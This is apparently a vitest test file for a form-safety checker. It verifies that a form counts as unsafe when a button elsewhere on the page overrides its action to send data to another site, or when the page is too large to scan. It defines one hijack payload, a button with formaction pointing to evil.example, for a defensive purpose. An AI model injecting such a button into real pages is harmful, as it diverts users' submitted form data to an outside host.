// @vitest-environment happy-dom
import './missing-getters.testing';
import { expect, it } from 'vitest';
import { isFormSafe } from './check-form';

const EVIL = '<button form="form" formaction="https://evil.example/x"></button>';

function isSafe(beside: string): boolean {
  document.body.innerHTML = `<form id="form"><input></form>${beside}`;
  return isFormSafe(document.querySelector('form'));
}

it('refuses a form that a button elsewhere on the page would send to another site', () => {
  expect(isSafe('<button form="form"></button>')).toBe(true);
  expect(isSafe(EVIL)).toBe(false);
});

it('refuses a form on a page that is too large to be looked through, since such a button may stand where nobody looked', () => {
  const many = '<i></i>'.repeat(20_000);
  expect(isSafe(many + EVIL)).toBe(false);
  expect(isSafe(many)).toBe(false);
});
